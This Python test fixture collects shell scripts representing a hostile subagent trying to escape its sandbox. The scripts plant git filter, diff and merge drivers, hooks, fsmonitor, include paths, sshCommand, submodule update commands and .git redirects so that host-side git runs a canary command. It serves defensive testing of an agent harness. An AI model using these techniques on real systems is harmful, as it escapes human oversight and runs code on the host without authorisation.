"""The attacks on host-side git (issue #10, "The escape, and its class"), as shell scripts.

Each script is what a hostile subagent runs in its worktree (`$PWD`). Every one of
them tries to make the host run `{pwn}`, a command that appends to a canary file on
the host; the host must never run it. `{root}` is the worktree's absolute path as
the host sees it (the worst case: inside a sandbox the attacker sees `/workspace`).
"""

from __future__ import annotations

NEST = (
    "mkdir -p {d} && cd {d} && git init -q && echo one > f && git add f && "
    "git -c user.name=a -c user.email=a@b commit -qm x && "
)
EVIL_SH = "printf '#!/bin/sh\\n{pwn}\\n' > evil.sh && chmod +x evil.sh; "
FILTER = (
    "git config filter.evil.clean '{pwn}; cat' && git config filter.evil.smudge '{pwn}; cat' "
    "&& git config filter.evil.process '{pwn}' && echo '* filter=evil' > .gitattributes "
    "&& echo two > f"
)

ATTACKS: dict[str, str] = {
    # The reported escape: a nested repository with a clean filter, recorded as a gitlink.
    "nested_filter": NEST.format(d="nested") + FILTER,
    # `.gitmodules` with `update = !cmd` (made host `git diff` fail, and the retry fire).
    "gitmodules_update": NEST.format(d="nested")
    + FILTER
    + ' && cd .. && printf \'[submodule "nested"]\\n\\tpath = nested\\n\\turl = ./nested\\n'
    "\\tupdate = !{pwn}\\n' > .gitmodules",
    # The repository already holds a submodule gitlink at vendor/lib (see the fixture).
    "existing_gitlink": NEST.format(d="vendor/lib") + FILTER,
    "textconv_diff_driver": NEST.format(d="nested")
    + "git config diff.evil.textconv '{pwn}; cat' && git config diff.evil.command '{pwn}' "
    "&& git config diff.external '{pwn}' && echo '* diff=evil' > .gitattributes "
    "&& echo two > f",
    "merge_driver": NEST.format(d="nested")
    + "git config merge.evil.driver '{pwn}; true' && echo '* merge=evil' > .gitattributes "
    "&& echo two > f",
    "include_path": EVIL_SH + 'printf \'[core]\\n\\tfsmonitor = {root}/evil.sh\\n[filter "evil"]\\n'
    "\\tclean = {pwn}\\n' > evil.cfg && "
    + NEST.format(d="nested")
    + "git config include.path {root}/evil.cfg && echo '* filter=evil' > .gitattributes "
    "&& echo two > f",
    "include_if": EVIL_SH + 'printf \'[core]\\n\\tfsmonitor = {root}/evil.sh\\n[filter "evil"]\\n'
    "\\tclean = {pwn}\\n' > evil.cfg && "
    + NEST.format(d="nested")
    + "git config 'includeIf.gitdir:/.path' {root}/evil.cfg && "
    "git config 'includeIf.onbranch:*.path' {root}/evil.cfg && "
    "echo '* filter=evil' > .gitattributes && echo two > f",
    "ssh_command": NEST.format(d="nested")
    + "git config core.sshCommand '{pwn}' && git remote add origin ssh://x.invalid/r && "
    "git config url.ssh://x.invalid/.insteadOf https:// && cd .. && "
    "printf '[submodule \"nested\"]\\n\\tpath = nested\\n\\turl = ssh://x.invalid/r\\n'"
    " > .gitmodules",
    "fsmonitor": EVIL_SH
    + NEST.format(d="nested")
    + "git config core.fsmonitor {root}/evil.sh && echo two > f",
    "hooks_path": EVIL_SH
    + NEST.format(d="nested")
    + "mkdir -p hooks && for h in pre-commit post-commit post-index-change "
    "post-checkout pre-push reference-transaction fsmonitor-watchman; do "
    "cp ../evil.sh hooks/$h; done && git config core.hooksPath {root}/nested/hooks && echo two > f",
    "symlinked_dot_git": "mkdir -p evilrepo && cd evilrepo && git init -q && echo one > f "
    "&& git add f && git -c user.name=a -c user.email=a@b commit -qm x && "
    + FILTER
    + " && cd .. && mkdir -p linked && cp evilrepo/f linked/f && echo '* filter=evil' "
    "> linked/.gitattributes && ln -s ../evilrepo/.git linked/.git && echo three > linked/f",
    "nested_git_file": "git init -q --bare hidden.d && git -C hidden.d config "
    "filter.evil.clean '{pwn}; cat' && git -C hidden.d config core.bare false && "
    "mkdir -p sub && echo 'gitdir: ../hidden.d' > sub/.git && echo '* filter=evil' "
    "> sub/.gitattributes && echo one > sub/f",
    # The worktree's own `.git` file aimed at a repository the subagent built (read-only
    # in both sandboxes; the host must not trust it either).
    "dot_git_redirect": EVIL_SH
    + "git init -q --bare evildir && git -C evildir config core.bare false && "
    "git -C evildir config core.fsmonitor {root}/evil.sh && "
    "git -C evildir config filter.evil.clean '{pwn}; cat' && "
    "git -C evildir config core.hooksPath /nonexistent && "
    "echo '* filter=evil' > .gitattributes && "
    "(echo 'gitdir: evildir' > .git || true) && echo two > new.txt",
    "core_worktree": NEST.format(d="nested")
    + "git config core.worktree {root}/.. && "
    + FILTER.replace("&& echo two > f", "&& echo two > f && echo x > ../top.txt"),
    "safe_directory": NEST.format(d="nested") + "git config safe.directory '*' && " + FILTER,
    # Top-level attributes naming drivers: only the host-written config could define
    # them, and it defines none (the host's global config is cut; see the test).
    "top_level_attributes": "printf '* filter=hostfilter diff=hostdiff merge=hostmerge "
    "text eol=crlf\\n' > .gitattributes && echo two > top.txt",
}

# A second round re-arms every attack: the same script again, plus a change.
REARM = " ; cd {root} && echo round2 >> round2.txt"

# Run at the top of the worktree in a whole task; the others each get a directory.
TOP_LEVEL = ("existing_gitlink", "dot_git_redirect", "top_level_attributes")


def combined(pwn: str, root: str, per_command: int = 4) -> list[str]:
    """Every attack as a few shell commands, for a whole task: `root` is the worktree
    on the host. Each command holds `per_command` attacks (a `run` takes 8,000 chars)."""
    parts = []
    for name, script in ATTACKS.items():
        if name in TOP_LEVEL:
            parts.append(f"( {script.format(pwn=pwn, root=root)} )")
        else:
            where = f"{root}/a_{name}"
            body = script.format(pwn=pwn, root=where)
            parts.append(f"( mkdir -p a_{name} && cd a_{name} && {body} )")
    parts.append("echo round >> rounds.txt")
    return [" ; ".join(parts[i : i + per_command]) for i in range(0, len(parts), per_command)]
